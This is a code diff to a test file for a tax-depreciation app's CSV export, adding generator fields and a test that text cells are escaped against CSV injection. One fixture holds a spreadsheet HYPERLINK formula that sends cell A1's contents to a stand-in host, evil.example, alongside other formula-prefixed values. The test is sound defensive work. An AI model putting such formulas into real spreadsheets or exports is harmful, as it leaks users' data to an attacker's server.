@@ -3,7 +3,7 @@
  * (docs/product/import-export.md "Export in the import layout"): the export writes its cells straight from the row
  * for speed, and this holds the two equal on random rows.
  */
-import { importRowCells } from '@taxdep/domain/import';
+import { IMPORT_CONSTRUCTION_USES, IMPORT_HEADINGS, importRowCells } from '@taxdep/domain/import';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { csvLine } from './cells';
@@ -58,6 +58,15 @@ const row: fc.Arbitrary<ExportRow> = fc.record({
   demo_date: date,
   demo_rate: rate,
   demolition_count: fc.integer({ min: 0, max: 5 }),
+  abandonment_label: text,
+  abandonment_date: date,
+  disposal_date: date,
+  termination_value: cents,
+  set_name: text,
+  second_hand: fc.option(fc.boolean(), { nil: null }),
+  construction_start_date: date,
+  construction_completion_date: date,
+  construction_use: fc.option(fc.constantFrom(...IMPORT_CONSTRUCTION_USES), { nil: null }),
 });
 
 describe('the import layout', () => {
@@ -68,5 +77,23 @@ describe('the import layout', () => {
       }),
       { numRuns: 500 },
     );
+  });
+
+  it('writes the set and label names spreadsheet-safe, as every text (OWASP "CSV injection"; issue 23 item 9)', () => {
+    const sample = fc.sample(row, { numRuns: 1, seed: 3 })[0]!;
+    const cells = (r: typeof sample) => importRowCells(stagedRowOfRegister(r));
+    const at = (heading: (typeof IMPORT_HEADINGS)[number]) => IMPORT_HEADINGS.indexOf(heading);
+    const written = cells({
+      ...sample,
+      set_name: '=HYPERLINK("http://evil.example/?"&A1,"Dining set")',
+      abandonment_label: '@SUM(1+1)',
+      fund_code: '+61 2 9999',
+      property_code: '-P1',
+    });
+    expect(written[at('Set Name')]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Dining set")');
+    expect(written[at('Abandonment Label')]).toBe("'@SUM(1+1)");
+    expect(written[at('Fund Code')]).toBe("'+61 2 9999");
+    expect(written[at('Property Code')]).toBe("'-P1");
+    expect(IMPORT_LAYOUT.line({ ...sample, set_name: '=1+1' })).toContain(",'=1+1,");
   });
 });
